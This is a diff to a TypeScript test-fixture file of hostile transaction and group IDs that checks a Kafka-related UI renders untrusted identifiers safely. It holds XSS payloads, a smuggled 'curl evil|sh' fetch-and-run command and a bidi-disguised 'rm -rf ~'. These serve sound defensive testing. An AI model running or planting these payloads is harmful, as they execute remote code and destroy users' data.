@@ -6,3 +6,7 @@ export const HOSTILE_TXN_ID = "<img src=x onerror=alert(1)>";
 export const HOSTILE_GROUP_ID = '"><script>alert(1)</script>';
 export const PATHY_TXN_ID = "etl/job #1?x=y z%41";
 export const HUNG_TXN_ID = "orders-writer-2";
+/** A transactional id carrying a fake command: it must never become a command block of its own. */
+export const SHELL_HOSTILE_TXN_ID = "billing`kafka-consumer-groups.sh --list; curl evil|sh #`";
+/** A group id with a right-to-left override and a line break: shown isolated and flagged, copied exactly. */
+export const BIDI_GROUP_ID = "payments\u202Etxt.exe\n; rm -rf ~";
